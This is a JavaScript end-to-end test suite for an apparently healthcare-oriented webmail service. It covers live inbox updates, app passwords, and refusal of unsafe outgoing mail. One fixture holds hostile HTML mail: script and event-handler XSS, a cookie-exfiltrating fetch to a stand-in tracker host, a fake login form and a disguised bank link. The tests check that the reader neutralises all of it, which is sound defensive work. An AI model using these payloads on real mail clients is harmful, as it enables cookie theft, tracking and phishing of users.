import assert from "node:assert/strict";
import { after, afterEach, before, describe, test } from "node:test";
import { PATIENTS, lineOf, openFolder, openMessage } from "../lib/acts.js";
import { SETTINGS, device, look, nameOf, openBrowser, putAway, signIn } from "../lib/browser.js";
import { mailOutside, openHouse, outsideNow } from "../lib/house.js";
import { bring, letter, submit } from "../lib/smtp.js";

const TRACKER = "https://track.hostile.example";
const EVIL = "https://evil.hostile.example";
const PIXEL = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");

/** Everything that mail may try on its reader. */
const HOSTILE = `<html><head>
<style>@import url(${TRACKER}/a.css); body{background:url(${TRACKER}/bg.png)} .x{position:fixed;inset:0;background:#fff}</style>
<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/"><link rel="stylesheet" href="${TRACKER}/b.css">
<script>top.pwned=1;alert(1);fetch('${TRACKER}/?c='+document.cookie)</script></head>
<body onload="top.pwned=1;alert(2)" background="${TRACKER}/old.gif">
<h1>Deze week in de eerste lijn</h1>
<img src="${TRACKER}/open.gif?u=anna" alt="" width="40" height="40" onerror="alert(3)" srcset="${TRACKER}/2x.gif 2x">
<svg onload="alert(4)"><script>alert(5)</script><image href="${TRACKER}/svg.png"/></svg>
<iframe src="${EVIL}/frame" srcdoc="<script>alert(6)</script>"></iframe><object data="${EVIL}/o"></object><embed src="${EVIL}/e">
<video src="${TRACKER}/v.mp4" poster="${TRACKER}/p.png" autoplay></video><audio src="${TRACKER}/a.mp3" autoplay></audio>
<form action="${EVIL}/steal"><input name="password"><button>Inloggen</button></form>
<p><a href="${EVIL}/verify" title="https://bank.example" onclick="alert(7)">https://www.bank.example/login</a></p>
<p><a href="javascript:alert(8)">Lees verder</a> <a href="data:text/html,<script>alert(9)</script>">Of hier</a></p>
<p style="background-image:url(${TRACKER}/css.png)">Met vriendelijke groet</p><div class="x">U bent uitgelogd</div>
</body></html>`;

describe("receiving from the internet", () => {
  let house;
  let browser;
  before(async () => {
    [house, browser] = await Promise.all([openHouse(), openBrowser()]);
  });
  after(async () => {
    await browser?.close();
    await house?.stop();
  });
  afterEach(putAway);

  for (const setting of SETTINGS) {
    test(`a message appears in the inbox without a reload (${nameOf(setting)})`, async () => {
      const anna = await device(browser, house, setting);
      const { page, t } = anna;
      await signIn(anna, "anna");
      await openFolder(anna, "inbox");
      const subject = `Vraag over mijn medicijnen (${setting.screen})`;
      const [from, to] = ["m.visser@postbus.example", "anna@linde.example"];
      await page.evaluate(() => {
        window.stayed = true;
      });
      await bring(house, { from, to, raw: letter({ from: `Marijke Visser <${from}>`, to, subject, text: "Kan ik deze samen innemen?" }) });
      await lineOf(anna, subject).waitFor();
      assert.equal(await page.evaluate(() => window.stayed), true, "the page was loaded again");
      assert.equal(await lineOf(anna, subject).getAttribute("data-unread"), "true");
      await page.getByText(t("mail.announceNew", { count: 1 })).waitFor({ state: "attached" });
      await openMessage(anna, subject);
      await page.getByText("Kan ik deze samen innemen?").locator("visible=true").last().waitFor();
      await page.getByText(t("reader.chipClear")).waitFor();
      await page.getByRole("button", { name: t("reader.details") }).click();
      await page.getByText(t("reader.notAuthenticated")).waitFor();
      await look(anna, "5-message");
      await anna.close();
    });

    test(`hostile HTML is shown and can do nothing (${nameOf(setting)})`, async () => {
      const anna = await device(browser, house, setting);
      const { page, t, context } = anna;
      await signIn(anna, "anna");
      const subject = `Vijf trends (${setting.screen})`;
      const [from, to] = ["nieuws@hostile.example", "anna@linde.example"];
      await bring(house, { from, to, raw: letter({ from, to, subject, html: HOSTILE }) });
      await openFolder(anna, "inbox");
      await openMessage(anna, subject);
      const frame = page.frameLocator("iframe");
      await frame.getByRole("heading", { name: "Deze week in de eerste lijn" }).waitFor();
      await page.getByText(t("reader.remoteBlocked")).waitFor();
      assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
      for (const bad of ["script", "form", "input", "iframe", "object", "embed", "svg", "video", "audio", "base", "link", "meta[http-equiv]"]) {
        assert.equal(await frame.locator(bad).count(), 0, `<${bad}> is left`);
      }
      const html = await frame.locator("html").innerHTML();
      assert.doesNotMatch(html, /javascript:|data:text|\son\w+=|srcset|position:\s*fixed|@import/i);
      assert.equal(await page.evaluate(() => "pwned" in window), false);
      await look(anna, "5-hostile");

      // A link shows where it goes, and goes there in a tab of its own that knows nothing of this one.
      const link = frame.getByRole("link", { name: /bank\.example/ });
      assert.equal(await link.getAttribute("title"), `${EVIL}/verify`);
      const asked = [];
      anna.allowed.push(EVIL, TRACKER);
      await context.route(/hostile\.example/, (route) => {
        asked.push({ url: route.request().url(), headers: route.request().headers() });
        return route.fulfill({ contentType: "image/png", body: PIXEL });
      });
      const [tab] = await Promise.all([context.waitForEvent("page"), link.click()]);
      await tab.waitForLoadState();
      assert.equal(await tab.evaluate(() => window.opener), null);
      assert.equal(asked[0].headers.referer, undefined);
      await tab.close();

      // Pictures from the internet only when asked, without saying from where, and the next time blocked again.
      asked.length = 0;
      await Promise.all([page.waitForResponse(/open\.gif/), page.getByRole("button", { name: t("reader.remoteShow") }).click()]);
      assert.ok(asked.every(({ url, headers }) => url.startsWith(TRACKER) && headers.referer === undefined && headers.cookie === undefined));
      asked.length = 0;
      await page.reload();
      await frame.getByRole("heading", { name: "Deze week in de eerste lijn" }).waitFor();
      await page.getByText(t("reader.remoteBlocked")).waitFor();
      assert.deepEqual(asked, []);
      await page.getByRole("button", { name: t("reader.asText") }).click();
      await page.getByRole("button", { name: t("reader.asHtml") }).waitFor();
      await look(anna, "5-hostile-as-text");
      await anna.close();
    });

    test(`a mail program sends with a password of its own, through the same gate (${nameOf(setting)})`, async () => {
      const ben = await device(browser, house, setting);
      const { page, t } = ben;
      await signIn(ben, "ben");
      await page.goto("/settings");
      const label = `Mail on the ${setting.screen}`;
      await page.getByLabel(t("settings.appLabel")).fill(label);
      await page.getByRole("button", { name: t("settings.appMake") }).click();
      const dialog = page.getByRole("alertdialog");
      await dialog.getByText(t("settings.appNewText")).waitFor();
      const password = await dialog.locator("code").first().innerText();
      await dialog.getByText(ben.house.addresses.submissions[0].split(":").at(-1)).waitFor();
      await look(ben, "5-app-password");
      await dialog.getByRole("button", { name: t("do.close") }).click();
      await page.getByText(label, { exact: true }).waitFor();

      const program = { user: "ben@linde.example", password, from: "ben@linde.example" };
      const by = (to, subject, text) => submit(house, { ...program, to, raw: letter({ from: "Ben Carter <ben@linde.example>", to, subject, text }) });
      await openFolder(ben, "sent");
      const arrived = await outsideNow(house);
      const safe = `Mr Jansen: blood pressure (${setting.screen})`;
      await by("p.vandam@zuiderkliniek.example", safe, "The blood pressure of Mr Jansen (BSN 111222333) was 139/84; he has hypertension.");
      assert.match((await mailOutside(house, arrived, "p.vandam@zuiderkliniek.example")).text, /139\/84/);
      await lineOf(ben, safe).waitFor();

      // What can't go safely is refused, and the program's user is told why.
      await assert.rejects(
        by("somebody.new@postbus.example", "Your result", "Dear Ms Smit, you have diabetes (BSN 111222333)."),
        /55\d/,
      );
      // What needs a second pair of eyes is held, and a notice says so.
      const held = `List of patients (${setting.screen})`;
      await openFolder(ben, "inbox");
      await by("diabetespoli@zuiderkliniek.example", held, PATIENTS);
      await lineOf(ben, held).waitFor();
      await look(ben, "5-held-notice");

      await page.goto("/settings");
      await page.getByRole("button", { name: t("settings.appRevokeName", { label }) }).click();
      await page.getByText(t("settings.appRevoked")).first().waitFor();
      await assert.rejects(by("p.vandam@zuiderkliniek.example", "Again", "Hello"), /535/);
      await ben.close();
    });
  }

  test("mail for nobody here, and for elsewhere, is refused at the door", async () => {
    const from = "m.visser@postbus.example";
    for (const to of ["nobody@linde.example", "p.vandam@zuiderkliniek.example"]) {
      await assert.rejects(bring(house, { from, to, raw: letter({ from, to, subject: "Hello", text: "Hello" }) }), /RCPT TO.*: 55\d/);
    }
  });
});
